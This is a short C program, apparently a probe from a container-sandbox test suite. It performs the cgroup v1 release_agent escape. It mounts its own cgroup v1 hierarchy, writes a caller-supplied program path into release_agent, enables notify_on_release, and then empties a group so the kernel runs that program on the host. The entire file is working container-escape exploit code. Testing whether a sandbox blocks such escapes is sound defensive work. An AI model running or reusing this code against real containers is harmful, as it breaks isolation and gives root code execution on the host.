// Mounts a cgroup v1 hierarchy of its own, which runs AGENT on the host when a group of it becomes empty. OPTIONS are
// those of the mounts in their place: with some that the kernel refuses, nothing is made.
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "report.h"

static long write_text(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    return fd < 0 ? -1 : write(fd, text, strlen(text));
}

int main(int argc, char **argv) {
    if (argc < 2 || argc > 3) return 2;
    const char *controller = argc > 2 ? argv[2] : "rdma", *own = argc > 2 ? argv[2] : "none,name=niwa-attack";
    mkdir("/tmp/v1", 0755);
    tried("mount a controller", mount("x", "/tmp/v1", "cgroup", 0, controller));
    umount("/tmp/v1");
    tried("agent in the group that it has", write_text("/sys/fs/cgroup/release_agent", argv[1]));
    if (tried("mount cgroup v1", mount("x", "/tmp/v1", "cgroup", 0, own)) < 0) return 0;
    tried("agent", write_text("/tmp/v1/release_agent", argv[1]));
    tried("make a group", mkdir("/tmp/v1/group", 0755));
    tried("notify", write_text("/tmp/v1/group/notify_on_release", "1"));
    pid_t pid = fork();
    if (pid == 0) _exit(write_text("/tmp/v1/group/cgroup.procs", "0") < 0);
    waitpid(pid, NULL, 0);
    sleep(1);
    rmdir("/tmp/v1/group");
    umount("/tmp/v1");
    return 0;
}
